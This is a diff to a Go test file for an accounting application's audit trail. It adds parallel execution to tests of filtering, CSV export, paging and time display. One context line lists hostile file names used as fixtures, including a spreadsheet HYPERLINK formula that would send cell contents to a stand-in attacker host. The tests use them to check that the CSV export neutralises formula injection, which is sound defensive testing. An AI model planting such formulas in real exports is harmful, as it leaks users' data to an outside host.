@@ -77,6 +77,7 @@ func unescape(s string) string { return (&response{Body: s}).Text() }
 // company's audit trail with who did it and when, in a zone the page names;
 // viewers and non-members do not see it.
 func TestAuditTrail(t *testing.T) {
+	t.Parallel()
 	d := newDocEnv(t)
 	vs := d.vouchers(db.VoucherFilter{HasDocuments: true})
 	if len(vs) == 0 {
@@ -171,6 +172,7 @@ var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"Faktura")`, "+1+c
 // TestAuditFilters: each filter (what, who, from, to) narrows the page and
 // the CSV alike; dates in the wrong order are said, not obeyed.
 func TestAuditFilters(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	admin, analyst := e.admin.Email, e.analyst.Email
 	days := e.auditSeed(
@@ -241,6 +243,7 @@ func readAuditCSV(t *testing.T, r *response) [][]string {
 // TestAuditCSV: the export has a header, times with their offset, and
 // hostile file names made harmless text for spreadsheets.
 func TestAuditCSV(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	var evs []db.AuditEvent
 	for _, h := range hostile {
@@ -266,6 +269,7 @@ func TestAuditCSV(t *testing.T) {
 
 // TestAuditPages: a hundred events a page, with links both ways.
 func TestAuditPages(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	for i := range 101 {
 		if err := e.db.Audit(t.Context(), db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, CompanyID: &e.fj.ID, Target: fmt.Sprintf("doc-%03d.pdf", i)}); err != nil {
@@ -296,6 +300,7 @@ func TestAuditPages(t *testing.T) {
 // Every action a company's trail can hold has words of its own: the page
 // would otherwise print its catalogue key.
 func TestAuditActionsHaveWords(t *testing.T) {
+	t.Parallel()
 	for _, a := range db.CompanyAuditActions() {
 		key := "audit.action." + a
 		if got := tr(key); got == key {
@@ -309,6 +314,7 @@ func TestAuditActionsHaveWords(t *testing.T) {
 // fields behind a toggle and every time in the reader's zone (none left as
 // "…Z"); the CSV keeps the fields as stored.
 func TestAuditReadable(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	expires := "2026-12-24T16:00:00Z"
 	e.auditSeed(
